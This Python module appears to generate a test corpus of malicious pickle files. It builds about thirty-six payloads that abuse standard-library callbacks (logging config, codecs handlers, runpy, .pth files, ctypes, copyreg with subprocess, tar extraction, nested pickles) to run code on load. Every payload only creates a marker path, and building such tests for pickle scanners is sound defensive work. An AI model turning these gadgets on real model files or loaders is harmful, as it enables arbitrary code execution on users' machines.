"""Attacks by calls into the standard library: callbacks, hooks, evaluators, writers and runners."""

from __future__ import annotations

import os
from collections.abc import Callable
from typing import Any

from model_corpus.cases import Attack
from model_corpus.unseen_building import (
    MKDIR,
    Apply,
    Name,
    again,
    build,
    call,
    expression,
    held,
    item,
    keep,
    namespace,
    new,
    plain,
    program,
    shell,
    statement,
    tarred,
)

_GETATTR = Name("builtins", "getattr")


def _with(function: Any, given: tuple[Any, ...], named: dict[str, Any]) -> Apply:
    """A call with keyword arguments: a partial that holds them is called."""
    return call(build(held(function), (function, given, named, None)))


def _profiled(marker: str) -> Apply:
    """A callback that takes one or two values, whatever they are, and runs a statement first."""
    return held(Name("cProfile", "run"), statement(marker))


def _dumping(marker: str) -> Apply:
    """A callback that writes what it is given to the marker."""
    function = Name("joblib", "dump")
    return build(held(function), (function, (), {"filename": marker}, None))


def _error_handler(marker: str) -> bytes:
    return program(
        call(Name("codecs", "register_error"), "weights", _dumping(marker)),
        call(Name("codecs", "decode"), b"\xff\xfe", "ascii", "weights"),
    )


def _signal(marker: str) -> bytes:
    return program(
        call(Name("signal", "signal"), 10, _profiled(marker)), call(Name("signal", "raise_signal"), 10),
        call(Name("time", "sleep"), 0.01),
    )  # fmt: skip


def _expat(marker: str) -> bytes:
    parser = build(call(Name("pyexpat", "ParserCreate")), (None, {"CharacterDataHandler": MKDIR}))
    return program(call(Name("pyexpat", "XMLParserType.Parse"), parser, f"<w>{marker}</w>", True))


def _html(marker: str) -> bytes:
    parser = build(call(Name("html.parser", "HTMLParser")), {"handle_data": MKDIR})
    return program(call(Name("html.parser", "HTMLParser.feed"), parser, f"<p>{marker}</p>"))


def _arguments(marker: str) -> bytes:
    return program(
        keep(1, call(Name("argparse", "ArgumentParser"))),
        _with(Name("argparse", "ArgumentParser.add_argument"), (again(1), "--weights"), {"type": MKDIR}),
        call(Name("argparse", "ArgumentParser.parse_args"), again(1), ["--weights", marker]),
    )


def _command(marker: str) -> bytes:
    made = build(call(Name("cmd", "Cmd")), {"do_load": MKDIR})
    return program(call(Name("cmd", "Cmd.onecmd"), made, f"load {marker}"))


def _context(marker: str) -> bytes:
    return program(
        call(Name("contextvars", "Context.run"), new(Name("contextvars", "Context")), MKDIR, marker)
    )


def _property(marker: str) -> bytes:
    made = call(Name("builtins", "property"), MKDIR)
    return program(call(Name("builtins", "property.__get__"), made, marker))


def _compared(marker: str) -> bytes:
    key = call(Name("functools", "cmp_to_key"), Name("posix", "symlink"))
    return program(call(Name("heapq", "nlargest"), 2, ["weights", marker], key), None)


def _object_hook(marker: str) -> bytes:
    decoder = _with(Name("json", "JSONDecoder"), (), {"object_hook": _dumping(marker)})
    return program(call(Name("json", "JSONDecoder.decode"), decoder, '{"layers": 3}'))


def _log_factory(marker: str) -> bytes:
    handler = {"()": "os.mkdir", "path": marker}
    return program(call(Name("logging.config", "dictConfig"), {"version": 1, "handlers": {"h": handler}}))


def _log_arguments(marker: str) -> bytes:
    lines = (
        "[loggers]\nkeys=root\n[handlers]\nkeys=h\n[formatters]\nkeys=\n[logger_root]\nhandlers=h\n"
        f"[handler_h]\nclass=NullHandler\nargs={expression(marker)}\n"
    )
    return program(call(Name("logging.config", "fileConfig"), call(Name("io", "StringIO"), lines)))


def _hints(marker: str) -> bytes:
    annotated = namespace(__annotations__={"weights": expression(marker)})
    return program(call(Name("typing", "get_type_hints"), annotated, {}))


def _created_function(marker: str) -> bytes:
    return program(call(Name("dataclasses", "_create_fn"), "f", [f"x={expression(marker)}"], ["pass"]))


def _script(marker: str) -> bytes:
    there = call(Name("pathlib", "PosixPath"), "layer.txt")
    return program(
        call(Name("pathlib", "Path.write_text"), there, statement(marker)),
        call(Name("runpy", "run_path"), "layer.txt"),
    )


def _site_file(marker: str) -> bytes:
    there = call(Name("pathlib", "PosixPath"), "w.pth")
    return program(
        call(Name("pathlib", "Path.write_text"), there, statement(marker) + "\n"),
        call(Name("site", "addsitedir"), "."),
    )


def _mail(marker: str) -> bytes:
    entry = {"text/plain": [{"view": "cat %s", "test": shell(marker)}]}
    return program(call(Name("mailcap", "findmatch"), entry, "text/plain"))


def _pipeline(marker: str) -> bytes:
    return program(
        keep(1, call(Name("pipes", "Template"))),
        call(Name("pipes", "Template.append"), again(1), f"tee '{marker}'", "--"),
        call(Name("pipes", "Template.copy"), again(1), "/dev/null", "/dev/null"),
    )


def _finalized(marker: str) -> bytes:
    return program(
        keep(1, call(Name("weakref", "finalize"), new(Name("argparse", "Namespace")), MKDIR, marker))
    )


def _database_function(marker: str) -> bytes:
    return program(
        keep(1, call(Name("sqlite3", "connect"), ":memory:")),
        call(Name("sqlite3", "Connection.create_function"), again(1), "layer", 1, MKDIR),
        call(Name("sqlite3", "Connection.execute"), again(1), f"SELECT layer('{marker}')"),
    )


def _native(marker: str) -> bytes:
    library = call(Name("ctypes", "CDLL"), None)
    return program(call(call(Name("operator", "getitem"), library, "mkdir"), marker.encode(), 0o700))


def _doctest(marker: str) -> bytes:
    lines = f">>> import os\n>>> os.mkdir({marker!r})\n"
    return program(call(Name("doctest", "run_docstring_examples"), lines, {}))


def _loop(marker: str) -> bytes:
    return program(call(Name("asyncio", "run"), call(Name("asyncio", "to_thread"), MKDIR, marker)))


def _remote_call(marker: str) -> bytes:
    request = (
        "<?xml version='1.0'?><methodCall><methodName>load</methodName><params><param><value><string>"
        f"{marker}</string></value></param></params></methodCall>"
    )
    return program(
        keep(1, call(Name("xmlrpc.server", "SimpleXMLRPCDispatcher"))),
        call(Name("xmlrpc.server", "SimpleXMLRPCDispatcher.register_function"), again(1), MKDIR, "load"),
        call(Name("xmlrpc.server", "SimpleXMLRPCDispatcher._marshaled_dispatch"), again(1), request),
    )


def _extracted(marker: str) -> bytes:
    folder, name = os.path.split(marker)
    archive = call(Name("tarfile", "open"), None, "r", call(Name("io", "BytesIO"), tarred([(name, b"")])))
    return program(call(Name("tarfile", "TarFile.extractall"), archive, folder))


def _unpacker(marker: str) -> bytes:
    return program(
        call(Name("shutil", "register_unpack_format"), "weights", [".w"], Name("posix", "symlink")),
        call(Name("shutil", "unpack_archive"), "model.w", marker, "weights"),
    )


def _prepared_class(marker: str) -> bytes:
    return program(
        call(Name("types", "new_class"), "W", (), {}, held(Name("builtins", "exec"), statement(marker)))
    )


def _nested(marker: str) -> bytes:
    inner: bytes = plain(marker, 2)
    for _ in range(3):
        inner = program(call(Name("multiprocessing.reduction", "ForkingPickler.loads"), inner))
    return inner


def _reduced(marker: str) -> bytes:
    start = Name("torch.serialization", "torch")
    return program(call(call(Name("functools", "reduce"), _GETATTR, ["hub", "os", "mkdir"], start), marker))


def _socket(marker: str) -> bytes:
    made = call(Name("socket", "socket"), 1, 1)
    return program(call(Name("_socket", "socket.bind"), made, marker))


def _hooked_module(marker: str) -> bytes:
    # a getter for missing names is given to a module, and then a missing name is fetched
    return program(
        item(Name("colorsys", "__dict__"), "__getattr__", _profiled(marker)), Name("colorsys", "weights")
    )


def _simple(name: str, function: Name, given: Callable[[str], tuple[Any, ...]]) -> Attack:
    return Attack(f"gadget: {name}", ".pkl", lambda marker: program(call(function, *given(marker))))


def _called() -> list[Attack]:
    """One call of one function."""
    return [
        _simple("a mail server by a command", Name("imaplib", "IMAP4_stream"), lambda m: (shell(m),)),
        _simple("a data address fetched", Name("urllib.request", "urlretrieve"), lambda m: ("data:,w", m)),
        _simple("the interpreter's C interface", Name("ctypes", "pythonapi.PyRun_SimpleString"),
                lambda m: (statement(m).encode(),)),
        _simple("a debugger", Name("bdb", "Bdb.runeval"),
                lambda m: (call(Name("bdb", "Bdb")), expression(m))),
        _simple("the reconstructor of copyreg", Name("copyreg", "_reconstructor"),
                lambda m: (Name("subprocess", "Popen"), Name("subprocess", "Popen"), ["touch", m])),
    ]  # fmt: skip


def attacks() -> list[Attack]:
    """All of this kind."""
    made: list[tuple[str, Callable[[str], bytes]]] = [
        ("a decoding error's handler", _error_handler),
        ("a signal's handler", _signal),
        ("character data of an XML parser", _expat),
        ("data of an HTML parser", _html),
        ("the type of an argument", _arguments),
        ("a command interpreter", _command),
        ("a context", _context),
        ("a property's getter", _property),
        ("a comparison of the largest", _compared),
        ("an object hook of JSON", _object_hook),
        ("a factory of a log handler", _log_factory),
        ("arguments of a log handler", _log_arguments),
        ("type hints in text", _hints),
        ("a function of a data class", _created_function),
        ("a script written and run", _script),
        ("a site file written and read", _site_file),
        ("the test of a mailcap entry", _mail),
        ("a pipeline", _pipeline),
        ("a weak reference's end", _finalized),
        ("a function of a database", _database_function),
        ("the C library", _native),
        ("examples in a text", _doctest),
        ("an event loop", _loop),
        ("a remote call made here", _remote_call),
        ("an archive in the pickle", _extracted),
        ("an unpacker registered", _unpacker),
        ("the body of a class", _prepared_class),
        ("a pickle in a pickle, four deep", _nested),
        ("a fold of getattr", _reduced),
        ("a bound socket", _socket),
        ("a getter for a module's missing names", _hooked_module),
    ]
    return [Attack(f"gadget: {name}", ".pkl", make) for name, make in made] + _called()


__all__ = ["attacks"]
